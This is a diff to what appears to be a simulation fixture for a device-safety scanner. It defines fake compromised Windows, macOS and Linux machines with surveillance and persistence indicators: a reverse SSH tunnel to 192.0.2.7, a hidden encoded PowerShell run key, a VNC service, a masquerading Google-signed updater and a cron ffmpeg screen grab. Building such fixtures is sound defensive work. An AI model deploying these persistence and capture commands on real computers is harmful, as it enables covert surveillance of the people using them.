@@ -14,7 +14,15 @@ from luciole.simulate.devices.computer.demonstration import computer
 from luciole.simulate.devices.computer.description import Computer, Extension, Program
 from luciole.simulate.devices.computer.write import SYSTEMS, write_zip
 
-RIGHTS = ("ListenEvent", "ScreenCapture", "Accessibility", "SystemPolicyAllFiles", "Microphone", "Camera")
+RIGHTS = (
+    "ListenEvent",
+    "ScreenCapture",
+    "Accessibility",
+    "SystemPolicyAllFiles",
+    "Microphone",
+    "Camera",
+    "AppleEvents",
+)
 AGENT = Program(
     "org.example.agent",
     "/Users/home/.agent/Agent.app/Contents/MacOS/Agent",
@@ -42,8 +50,30 @@ WINDOWS = Computer(
             starts=("run-key",),
             signer="CN=Microsoft Windows",
         ),
+        Program(
+            "Update",
+            "C:\\Users\\home\\AppData\\u.exe",
+            listed=False,
+            starts=("task",),
+            signer="CN=Google LLC, O=Google LLC",
+        ),
+        Program(
+            "Way",
+            "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+            starts=("task",),
+            arguments="-N -R 22:localhost:22 u@192.0.2.7",
+        ),
+        Program("UltraVNC", "C:\\Program Files\\UltraVNC\\winvnc.exe", starts=("service",)),
+        Program(
+            "psh", "C:\\Windows\\System32\\powershell.exe", starts=("run-key",), arguments="-W Hidden -Enc SQBFAFgA"
+        ),
     ),
-    extensions=(Extension("f" * 32, "Watcher", ("<all_urls>",), location=4, forced=True),),
+    extensions=(
+        Extension("f" * 32, "Watcher", ("<all_urls>",), location=4, forced=True),
+        Extension("e" * 32, "Mail", ("https://mail.google.com/*",), location=4),
+    ),
+    administrators=("home", "helper"),
+    name_servers=("203.0.113.53",),
     hosts=(("127.0.0.1", "www.techsafety.org"), ("203.0.113.7", "mail.example")),
     proxy="192.0.2.7:3128",
     certificates=(signer("other").certificate,),
@@ -60,7 +90,14 @@ MADE = (
     *(computer(system) for system in SYSTEMS),
     WINDOWS,
     Computer("macos", (AGENT, BAR), profiles=("org.example.rules",), management="https://mdm.example"),
-    Computer("linux", (Program("hook", "/opt/hook/a.so", listed=False, starts=("preload",)),), input_group=("home",)),
+    Computer(
+        "linux",
+        (
+            Program("hook", "/opt/hook/a.so", listed=False, starts=("preload",)),
+            Program("film", "/usr/bin/ffmpeg", starts=("cron",), arguments="-f x11grab -i :0 a.mkv"),
+        ),
+        input_group=("home",),
+    ),
 )
 
 
